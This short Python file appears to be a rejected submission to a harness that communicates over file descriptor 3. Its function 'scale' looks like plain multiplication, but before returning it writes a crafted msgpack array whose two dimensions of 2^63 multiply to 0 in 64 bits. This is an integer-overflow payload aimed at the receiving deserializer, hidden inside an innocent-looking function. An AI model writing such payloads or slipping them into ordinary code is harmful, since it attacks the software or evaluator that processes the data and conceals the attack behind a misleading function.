"""Writes an array whose shape, multiplied in 64 bits, is 0."""
# status: rejected
# loses: all
import os
import struct

import msgpack


def send(body):
    os.write(3, struct.pack("<Q", len(body)) + body)


def scale(x, k):
    array = msgpack.ExtType(1, struct.pack("<BB2Q", 11, 2, 1 << 63, 1 << 63))
    send(msgpack.packb([[[0, array], [1, array]], None, [], [], False, None]))
    return k * x
